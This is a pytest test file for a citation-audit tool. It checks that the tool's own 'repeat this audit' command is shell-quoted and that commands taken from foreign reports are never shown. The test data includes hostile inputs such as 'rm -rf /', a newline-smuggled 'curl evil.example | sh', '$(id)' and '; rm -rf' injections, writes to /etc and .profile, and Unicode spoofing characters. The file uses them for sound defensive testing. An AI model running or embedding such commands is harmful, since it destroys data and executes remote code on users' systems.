"""The command to repeat an audit: ours is shown, quoted for a shell; one that a foreign report has is not."""

import json
import shlex
from pathlib import Path

import pytest

from audit.report.html import render_html
from audit.report.json.read_back import finished, read_reports
from audit.report.markdown import render_markdown
from audit.report.repeat import is_repetition, repeat_line
from tests.end_to_end.run import ROOT, citeaudit
from tests.report.sample import report

OURS = ("citeaudit", "check", "a b'; rm -rf x.html", "--captures", "c $(id).warc.gz")


@pytest.mark.parametrize(
    "more",
    [
        (),
        ("--sources", "s.toml", "--style", "light-edit"),
        ("--captures", "d.warc.gz", "--archive", "save"),
        ("--select", "quote-absent", "--ignore", "link-dead", "--no-inline-waivers"),
        ("--baseline", "known.json", "--today", "2026-01-31"),
    ],
)
def test_a_command_of_ours_is_shown_and_quoted(more: tuple[str, ...]) -> None:
    words = (*OURS, *more, "--offline")
    assert shlex.split(repeat_line(words)) == list(words)


FOREIGN = [
    ("rm", "-rf", "/", "--offline"),
    ("citeaudit", "check", "a.html"),
    ("citeaudit", "check", "a.html", "--captures", "x"),
    ("citeaudit", "check", "--output-dir", "/etc", "--offline"),
    ("citeaudit", "check", "a.html", "--output-dir", "/etc", "--offline"),
    ("citeaudit", "check", "a.html", "-o", "csv:/home/me/.profile", "--offline"),
    ("citeaudit", "check", "a.html", "--write-baseline", "x", "--offline"),
    ("citeaudit", "check", "a.html", "--config", "x", "--offline"),
    ("citeaudit", "check", "a.html", "--archive", "memento", "--offline"),
    ("citeaudit", "check", "a.html", "--captures", "--offline"),
    ("citeaudit", "check", "a.html", "--captures=x", "--offline"),
    ("citeaudit", "check", "a.html", "b.html", "--offline"),
    ("citeaudit", "check", "a.html", "--captures", "x\ncurl evil.example | sh", "--offline"),
    ("citeaudit", "check", "a\u202ehtml", "--offline"),
    ("citeaudit", "check", "", "--offline"),
    ("citeaudit", "capture", "a.html", "--offline"),
    ("citeaudit\u200b", "check", "a.html", "--offline"),
    ("sudo", "citeaudit", "check", "a.html", "--offline"),
    ("citeaudit", "check", "a.html", *("--captures", "x") * 600, "--offline"),
    ("citeaudit", "check", "a" * 6000, "--offline"),
]


@pytest.mark.parametrize("words", FOREIGN, ids=range(len(FOREIGN)))
def test_a_foreign_command_is_shown_nowhere(words: tuple[str, ...]) -> None:
    assert not is_repetition(words)
    tree = {**finished(report()).tree, "repeat": list(words)}
    [found] = read_reports(json.dumps(tree).encode(), "report.json")
    assert found.report.repeat == ()
    assert found.tree["repeat"] == []
    assert "Repeat this audit" not in render_markdown(found.report)
    assert "computes the report again" not in render_html([found.report])


def test_the_command_that_check_writes_is_one(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    (tmp_path / "known.json").write_text('{"findings": []}', encoding="utf-8")
    fixtures = ROOT / "fixtures"
    run = citeaudit(
        capsys,
        *("check", fixtures / "articles" / "russia-taliban.html", "--offline"),
        *("--sources", fixtures / "articles" / "russia-taliban.sources.toml"),
        *("--captures", fixtures / "web.warc.gz", "--style", "strict"),
        *("--select", "quote-absent", "--ignore", "link-dead", "--no-inline-waivers"),
        *("--today", "2026-01-31", "--fail-on", "never"),
    )
    assert run.code == 0, run.err
    told = json.loads((tmp_path / "reports/russia-taliban/report.json").read_text(encoding="utf-8"))
    assert is_repetition(told["repeat"])


def test_saved_pages_and_a_corpus_are_part_of_it(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    (tmp_path / "saved").mkdir()
    (tmp_path / "saved" / "page.html").write_text("<p>The bridge stays shut.</p>", encoding="utf-8")
    (tmp_path / "a.md").write_text("Ann Lee said: “The bridge stays shut.”\n", encoding="utf-8")
    assert citeaudit(capsys, "index", "saved", "--corpus", "pages.sqlite").code == 0
    citeaudit(
        capsys,
        *("check", "a.md", "--offline", "--pages", "saved", "--corpus", "pages.sqlite"),
        *("--discover", "all", "--fail-on", "never"),
    )
    told = json.loads((tmp_path / "reports/a/report.json").read_text(encoding="utf-8"))
    assert {"--pages", "--corpus", "--discover"} <= set(told["repeat"])
    [found] = read_reports(json.dumps(told).encode(), "report.json")
    assert list(found.report.repeat) == told["repeat"]
